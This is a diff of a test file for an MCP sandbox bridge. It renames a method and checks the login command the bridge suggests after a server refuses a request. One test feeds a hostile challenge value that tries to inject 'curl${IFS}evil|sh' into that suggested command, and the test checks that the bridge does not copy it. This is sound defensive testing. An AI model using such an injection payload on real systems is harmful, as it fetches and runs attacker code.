@@ -162,17 +162,17 @@ describe('a person is needed', () => {
 
   it('when the server asks for more; the command asks for it', () => {
     const challenge = 'Bearer error="insufficient_scope", scope="mcp:tools mcp:admin"';
-    expect(bridge().refused({ status: 403, challenge })).toMatchObject({
+    expect(bridge().onRefused({ status: 403, challenge })).toMatchObject({
       reason: 'it asks for more than its login was granted',
       remedy: "Run `mcp-sandbox-bridge login linear --scope 'mcp:tools mcp:admin'` in a terminal.",
     });
     const hostile = `Bearer error="insufficient_scope", scope="x';curl\${IFS}evil|sh;'"`;
-    expect(bridge().refused({ status: 403, challenge: hostile })).toMatchObject({ remedy: COMMAND });
+    expect(bridge().onRefused({ status: 403, challenge: hostile })).toMatchObject({ remedy: COMMAND });
   });
 
   it('when a fresh token is refused, but not for a 403 of another kind', () => {
-    expect(bridge().refused({ status: 401, challenge: undefined })).toMatchObject({ remedy: COMMAND });
-    expect(bridge().refused({ status: 403, challenge: undefined })).toBeUndefined();
+    expect(bridge().onRefused({ status: 401, challenge: undefined })).toMatchObject({ remedy: COMMAND });
+    expect(bridge().onRefused({ status: 403, challenge: undefined })).toBeUndefined();
   });
 
   it('whose server has a name that a shell would take apart', async () => {
